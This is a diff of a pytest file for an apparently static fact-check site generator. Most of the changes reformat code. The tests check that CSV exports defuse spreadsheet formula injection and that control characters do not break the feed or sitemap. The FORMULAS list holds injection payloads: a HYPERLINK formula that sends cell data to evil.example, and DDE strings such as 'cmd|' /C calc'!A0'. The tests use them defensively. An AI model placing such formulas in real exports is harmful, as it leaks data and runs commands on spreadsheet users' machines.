@@ -16,7 +16,7 @@ from factcheck.build import build_site
 from factcheck.exports import spreadsheet_safe, xml_chars
 
 FORMULAS = [
-    "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")",
+    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
     "+1+cmd|' /C calc'!A0",
     "-2+3+cmd|' /C calc'!A0",
     "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -36,20 +36,26 @@ def _yaml_escaped(text: str) -> str:
 
 
 def _project(root: Path, *, summary: str, claimant: str, headline: str, title: str) -> Path:
-    return write_project(root, {
-        "factcheck.yaml": (
-            f"title: {title}\nbase_url: https://check.example.org/\n"
-            f"description: {title}\norganization:\n  name: {title}\n"
-            "ratings:\n  - id: misleading\n    label: Misleading\n    value: 2\n"
-            "review:\n  min_reviewers: 1\n"),
-        "content/claims/the-claim.md": (
-            f"---\nsummary: {summary}\nclaimant: {claimant}\ndate: 2026-03-10\n"
-            f"tags: [{claimant}]\n---\n"),
-        "content/reviewers/sam.md": REVIEWER,
-        "content/verdicts/the-claim/sam.md": (
-            "---\nclaim: the-claim\nreviewer: sam\nrating: misleading\nstatus: approved\n"
-            f"date: 2026-03-12\nheadline: {headline}\n---\nReasons.\n"),
-    })
+    return write_project(
+        root,
+        {
+            "factcheck.yaml": (
+                f"title: {title}\nbase_url: https://check.example.org/\n"
+                f"description: {title}\norganization:\n  name: {title}\n"
+                "ratings:\n  - id: misleading\n    label: Misleading\n    value: 2\n"
+                "review:\n  min_reviewers: 1\n"
+            ),
+            "content/claims/the-claim.md": (
+                f"---\nsummary: {summary}\nclaimant: {claimant}\ndate: 2026-03-10\n"
+                f"tags: [{claimant}]\n---\n"
+            ),
+            "content/reviewers/sam.md": REVIEWER,
+            "content/verdicts/the-claim/sam.md": (
+                "---\nclaim: the-claim\nreviewer: sam\nrating: misleading\nstatus: approved\n"
+                f"date: 2026-03-12\nheadline: {headline}\n---\nReasons.\n"
+            ),
+        },
+    )
 
 
 @pytest.fixture(scope="module")
@@ -61,10 +67,12 @@ def formula_csv(tmp_path_factory: pytest.TempPathFactory) -> str:
     for index, formula in enumerate([*FORMULAS, "a;=1+1"]):
         quoted = _yaml_escaped(formula)
         files[f"content/claims/c{index}.md"] = (
-            f"---\nsummary: {quoted}\nclaimant: {quoted}\ndate: 2026-03-10\n---\n")
+            f"---\nsummary: {quoted}\nclaimant: {quoted}\ndate: 2026-03-10\n---\n"
+        )
         files[f"content/verdicts/c{index}.md"] = (
             f"---\nclaim: c{index}\nreviewer: sam\nrating: accurate\nstatus: approved\n"
-            f"date: 2026-03-12\nheadline: {quoted}\n---\nReasons.\n")
+            f"date: 2026-03-12\nheadline: {quoted}\n---\nReasons.\n"
+        )
     project = write_project(root / "p", files)
     result = build_site(project, output=root / "site", search=False)
     assert result.ok, result.diagnostics.format_text()
@@ -99,8 +107,7 @@ def test_numbers_and_ordinary_text_are_left_alone() -> None:
 
 def test_control_characters_never_make_the_feed_or_sitemap_invalid(tmp_path: Path) -> None:
     quoted = _yaml_escaped(f"A{CONTROLS}B")
-    root = _project(tmp_path / "p", summary=quoted, claimant=quoted, headline=quoted,
-                    title=quoted)
+    root = _project(tmp_path / "p", summary=quoted, claimant=quoted, headline=quoted, title=quoted)
     result = build_site(root, output=tmp_path / "site", search=False)
     assert result.ok, result.diagnostics.format_text()
     atom = "{http://www.w3.org/2005/Atom}"
